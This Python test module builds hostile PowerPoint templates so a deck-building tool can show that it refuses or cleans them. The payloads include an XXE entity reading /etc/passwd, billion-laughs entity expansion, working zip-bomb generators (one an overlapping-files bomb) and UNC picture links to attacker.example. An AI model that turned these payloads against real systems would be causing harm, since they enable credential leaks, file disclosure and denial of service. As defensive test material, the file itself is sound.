"""Hostile PowerPoint templates: the example template with one part patched.

Each maker writes a copy of `assets/example-template.pptx` in which one part
holds what a hostile (or broken) template may hold: a DTD with entities, a zip
bomb, pictures and links that point outside the file, numbers that are not
numbers. `HOSTILE` names each one with what deckbuild must do with it: refuse
it (a message matching the pattern) or build with it after removing something
(a warning matching the pattern).
"""
from __future__ import annotations

import struct
import zipfile
import zlib
from pathlib import Path
from typing import Callable, Dict, Optional, Tuple

EXAMPLE_TEMPLATE = Path(__file__).resolve().parent.parent / "assets" / "example-template.pptx"
LAYOUT = "ppt/slideLayouts/slideLayout2.xml"  # Title and Content
LAYOUT_RELS = "ppt/slideLayouts/_rels/slideLayout2.xml.rels"
MASTER = "ppt/slideMasters/slideMaster1.xml"
MASTER_RELS = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
THEME = "ppt/theme/theme1.xml"
IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def patched(target: Path, changes: Dict[str, Callable[[str], str]] = None,
            extra: Dict[str, bytes] = None) -> Path:
    """The example template with `changes[part](text)` applied and `extra` parts added."""
    changes = changes or {}
    with zipfile.ZipFile(EXAMPLE_TEMPLATE) as source, \
            zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as result:
        for info in source.infolist():
            data = source.read(info)
            if info.filename in changes:
                data = changes[info.filename](data.decode("utf-8")).encode("utf-8")
            result.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            result.writestr(name, data)
    return target


def _prolog(doctype: str, use: str) -> Callable[[str], str]:
    """Put a DOCTYPE after the XML declaration and `use` (an entity) in the layout's name."""
    def change(text: str) -> str:
        head, _, rest = text.partition("?>")
        rest = rest.replace('name="Title and Content"', f'name="{use} Content"', 1)
        return f"{head}?>\n{doctype}{rest}"
    return change


def _relationship(rid: str, kind: str, target: str) -> Callable[[str], str]:
    def change(text: str) -> str:
        return text.replace("</Relationships>", f'<Relationship Id="{rid}" Type="{kind}"'
                            f' Target="{target}" TargetMode="External"/></Relationships>')
    return change


_PICTURE = ('<p:pic><p:nvPicPr><p:cNvPr id="90" name="Linked picture"/><p:cNvPicPr/><p:nvPr/>'
            '</p:nvPicPr><p:blipFill><a:blip {ref}/><a:stretch><a:fillRect/></a:stretch>'
            '</p:blipFill><p:spPr><a:xfrm><a:off x="100" y="100"/><a:ext cx="914400"'
            ' cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
            '</p:pic>')


def _add_picture(ref: str) -> Callable[[str], str]:
    def change(text: str) -> str:
        return text.replace("</p:spTree>", _PICTURE.format(ref=ref) + "</p:spTree>", 1)
    return change


def _link_on_design(rid: str) -> Callable[[str], str]:
    """A click link on the layout's first design shape."""
    def change(text: str) -> str:
        return text.replace('<p:cNvPr id="8" name="Design"/>',
                            f'<p:cNvPr id="8" name="Design"><a:hlinkClick r:id="{rid}"/>'
                            '</p:cNvPr>', 1)
    return change


def _master_background(rid: str) -> Callable[[str], str]:
    def change(text: str) -> str:
        background = (f'<p:bg><p:bgPr><a:blipFill><a:blip r:embed="{rid}"/><a:stretch>'
                      '<a:fillRect/></a:stretch></a:blipFill><a:effectLst/></p:bgPr></p:bg>')
        for old in ("<p:bg>",):
            if old in text:
                start = text.index("<p:bg>")
                end = text.index("</p:bg>") + len("</p:bg>")
                return text[:start] + background + text[end:]
        return text.replace("<p:spTree>", background + "<p:spTree>", 1)
    return change


def zeros_deflated(size: int) -> Tuple[bytes, int]:
    """(raw deflate data of `size` zero bytes, its CRC-32), made a megabyte at a time."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    parts, crc, left = [], 0, size
    while left:
        piece = chunk[:min(left, len(chunk))]
        parts.append(packer.compress(piece))
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    parts.append(packer.flush())
    return b"".join(parts), crc


def overlapping_bomb(target: Path, copies: int = 2000, size: int = 8 << 20) -> Path:
    """A zip whose directory lists `copies` parts that all share one compressed 8 MB run of
    zeros (the "overlapping files" zip bomb): 16 GB unpacked from a file of a few hundred KB,
    appended to the example template's own parts."""
    with zipfile.ZipFile(EXAMPLE_TEMPLATE) as source:
        parts = [(info.filename, source.read(info)) for info in source.infolist()]
    data, crc = zeros_deflated(size)
    body, directory = bytearray(), bytearray()

    def local(name: bytes, payload: bytes, method: int, crc32: int, raw_size: int) -> int:
        offset = len(body)
        body.extend(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21,
                                crc32, len(payload), raw_size, len(name), 0))
        body.extend(name)
        body.extend(payload)
        return offset

    def central(name: bytes, offset: int, method: int, crc32: int, packed: int, raw: int):
        directory.extend(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method,
                                     0, 0x21, crc32, packed, raw, len(name), 0, 0, 0, 0, 0,
                                     offset))
        directory.extend(name)

    for name, payload in parts:
        packed = zlib.compress(payload, 6)[2:-4]
        offset = local(name.encode(), packed, 8, zlib.crc32(payload), len(payload))
        central(name.encode(), offset, 8, zlib.crc32(payload), len(packed), len(payload))
    shared = local(b"ppt/media/zeros0.bin", data, 8, crc, size)
    for n in range(copies):
        central(f"ppt/media/zeros{n}.bin".encode(), shared, 8, crc, len(data), size)
    count = len(parts) + copies
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, min(count, 0xFFFE),
                      min(count, 0xFFFE), len(directory), len(body), 0)
    target.write_bytes(bytes(body) + bytes(directory) + end)
    return target


def zip_bomb(target: Path) -> Path:
    """The example template with a 250 MB part of zeros (about 250 KB in the file)."""
    patched(target)
    with zipfile.ZipFile(target, "a") as archive:
        info = zipfile.ZipInfo("ppt/media/zeros.bin")
        info.compress_type = zipfile.ZIP_DEFLATED
        # Written through zipfile's own writer, a megabyte at a time (never 250 MB in memory).
        with archive.open(info, "w", force_zip64=False) as handle:
            chunk = bytes(1 << 20)
            for _ in range(250):
                handle.write(chunk)
    return target


BILLION_LAUGHS = ('<!DOCTYPE a:theme [<!ENTITY l0 "ha">'
                  + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
                  + "]>")

# name -> (make it at a path, "refused" or "warned", the message's pattern)
HOSTILE: Dict[str, Tuple[Callable[[Path], Path], str, Optional[str]]] = {
    "dtd-internal-entity": (lambda p: patched(p, {LAYOUT: _prolog(
        '<!DOCTYPE p:sldLayout [<!ENTITY org "Example">]>', "&org;")}),
        "refused", r"holds a DTD"),
    "dtd-external-entity": (lambda p: patched(p, {LAYOUT: _prolog(
        '<!DOCTYPE p:sldLayout [<!ENTITY secret SYSTEM "file:///etc/passwd">]>', "&secret;")}),
        "refused", r"holds a DTD"),
    "billion-laughs-theme": (lambda p: patched(p, {THEME: lambda t: t.replace(
        "?>", "?>\n" + BILLION_LAUGHS, 1).replace('name="', 'name="&l9;', 1)}),
        "refused", r"holds a DTD"),
    "undefined-entity": (lambda p: patched(p, {LAYOUT: lambda t: t.replace(
        'name="Title and Content"', 'name="&nbsp; Content"', 1)}),
        "refused", r"not well-formed XML"),
    "zip-bomb": (zip_bomb, "refused", r"zip bomb"),
    "overlapping-zip-bomb": (overlapping_bomb, "refused", r"zip bomb"),
    "unc-picture": (lambda p: patched(p, {
        LAYOUT_RELS: _relationship("rId90", IMAGE, r"\\attacker.example\share\x.png"),
        LAYOUT: _add_picture('r:embed="rId90"')}),
        "warned", r"removed a picture the template links to outside itself"),
    "http-linked-picture": (lambda p: patched(p, {
        LAYOUT_RELS: _relationship("rId90", IMAGE, "http://tracker.example/pixel.png"),
        LAYOUT: _add_picture('r:link="rId90"')}),
        "warned", r"removed a picture the template links to outside itself"),
    "file-hyperlink": (lambda p: patched(p, {
        LAYOUT_RELS: _relationship("rId91", HYPERLINK, "file:///etc/passwd"),
        LAYOUT: _link_on_design("rId91")}),
        "warned", r"removed a link to 'file:///etc/passwd'"),
    "unc-background": (lambda p: patched(p, {
        MASTER_RELS: _relationship("rId90", IMAGE, r"\\attacker.example\share\bg.png"),
        MASTER: _master_background("rId90")}),
        "warned", r"removed a picture the template links to outside itself"),
    "web-hyperlink": (lambda p: patched(p, {
        LAYOUT_RELS: _relationship("rId91", HYPERLINK, "https://www.example.org/"),
        LAYOUT: _link_on_design("rId91")}),
        "kept", None),
    "lummod-not-a-number": (lambda p: patched(p, {LAYOUT: lambda t: t.replace(
        '<a:schemeClr val="accent1"/>', '<a:schemeClr val="accent1"><a:lumMod val="abc"/>'
        '</a:schemeClr>', 1)}), "refused", r'lumMod val="abc"> is not a whole number'),
    "offset-not-a-number": (lambda p: patched(p, {LAYOUT: lambda t: t.replace(
        '<a:off x="0" y="1320800"/>', '<a:off x="abc" y="1320800"/>', 1)}),
        "refused", r'a:off x="abc"> is not a whole number'),
    "colour-not-hex": (lambda p: patched(p, {THEME: lambda t: t.replace(
        'srgbClr val="', 'srgbClr val="ZZ', 1)}), "refused", r"is not a colour"),
}
